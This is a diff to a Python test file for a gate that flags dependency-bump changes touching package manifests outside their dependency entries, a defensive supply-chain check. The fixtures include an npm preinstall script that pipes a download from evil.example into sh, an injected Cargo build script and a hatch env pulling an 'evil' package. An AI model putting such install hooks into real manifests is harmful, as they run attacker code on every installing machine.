@@ -86,8 +86,6 @@ def test_pyproject_tool_tables_that_install_packages_are_checked(table: str) -> 
     assert reasons and all(r.startswith("dependency: ") for r in reasons), reasons
 
 
-@pytest.mark.xfail(strict=True, reason="a dependency-bump may change anything in a parsed manifest outside its "
-                   "dependency tables: package.json scripts (run by npm install), Cargo's build script, hatch envs")
 @pytest.mark.parametrize("before,after", [
     (BASE_NPM, npm({}, {}, scripts={"preinstall": "curl -s https://evil.example/x | sh"})),
     ({"Cargo.toml": CARGO}, {"Cargo.toml": CARGO.replace('version = "0.1.0"', 'version = "0.1.0"\nbuild = "src/x.rs"')}),
@@ -95,7 +93,30 @@ def test_pyproject_tool_tables_that_install_packages_are_checked(table: str) -> 
      {"pyproject.toml": PYPROJECT + '[tool.hatch.envs.default]\ndependencies = ["evil==1.0"]\n'}),
 ], ids=["npm-scripts", "cargo-build", "hatch-env"])
 def test_a_manifest_change_outside_its_dependency_tables_is_refused(before: dict[str, str], after: dict[str, str]) -> None:
-    assert gate(before, after).reasons
+    """npm install runs package.json scripts, cargo build the crate's build script, hatch its
+    environments' dependencies: none is a dependency entry, so a dependency-bump may not touch them."""
+    [path] = [p for p in after if before.get(p) != after[p] and not p.endswith("-lock.json")]
+    assert gate(before, after).reasons == [
+        f"dependency: manifest changed outside its dependencies: {path} (only dependency entries may change)"
+    ]
+
+
+def test_a_dependency_bump_that_only_touches_dependency_entries_is_not_flagged() -> None:
+    go = "module x\n\ngo 1.22\n\nrequire golang.org/x/text v0.14.0\n"
+    sums = "golang.org/x/text v0.14.0 h1:AAAA\ngolang.org/x/text v0.15.0 h1:BBBB\n"
+    before = {"go.mod": go, "go.sum": sums}
+    after = {"go.mod": go.replace("1.22", "1.23").replace("v0.14.0", "v0.15.0"), "go.sum": sums}
+    assert gate(before, after).reasons == []
+    pyproject = PYPROJECT + '[tool.ruff]\nline-length = 100\n'
+    bumped = pyproject.replace("dependencies = []", 'dependencies = ["ruff==0.5"]')
+    assert gate({"pyproject.toml": pyproject}, {"pyproject.toml": bumped}).reasons == []
+
+
+@pytest.mark.xfail(strict=True, reason="a NEW manifest has no base to compare its non-dependency part with: a "
+                   "dependency-bump may add web/package.json with a preinstall script")
+def test_a_new_manifest_with_install_scripts_is_refused() -> None:
+    after = {"web/package.json": json.dumps({"name": "w", "scripts": {"preinstall": "curl https://evil.example | sh"}})}
+    assert gate({}, after).reasons
 
 
 @pytest.mark.parametrize("before,after", [
